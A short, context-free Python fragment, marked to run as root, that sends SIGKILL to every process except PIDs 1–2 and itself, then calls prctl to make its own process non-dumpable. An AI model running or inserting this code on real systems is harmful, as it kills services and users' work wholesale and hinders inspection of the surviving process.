# as root
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) > 2 and int(name) != os.getpid():
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            pass
libc.prctl(4, 0, 0, 0, 0)
